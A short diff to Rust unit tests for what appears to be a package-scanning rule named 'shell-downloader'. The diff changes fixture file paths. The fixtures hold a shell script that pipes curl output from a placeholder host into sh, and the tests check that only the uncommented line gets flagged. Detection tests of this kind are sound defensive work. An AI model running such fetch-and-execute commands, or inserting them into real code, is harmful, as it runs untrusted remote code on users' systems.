@@ -150,7 +150,7 @@ mod tests {
         assert_eq!(
             worst(
                 "shell-downloader",
-                "pkg-1.0/tools/get.sh",
+                "pkg-1.0/get.sh",
                 "#!/bin/sh\ncurl https://x.example.invalid | sh\n"
             ),
             Some(Severity::Medium)
@@ -158,7 +158,7 @@ mod tests {
         assert_eq!(
             worst(
                 "shell-downloader",
-                "pkg-1.0/tools/get.sh",
+                "pkg-1.0/get.sh",
                 "#!/bin/sh\n# curl https://x.example.invalid | sh\n"
             ),
             None
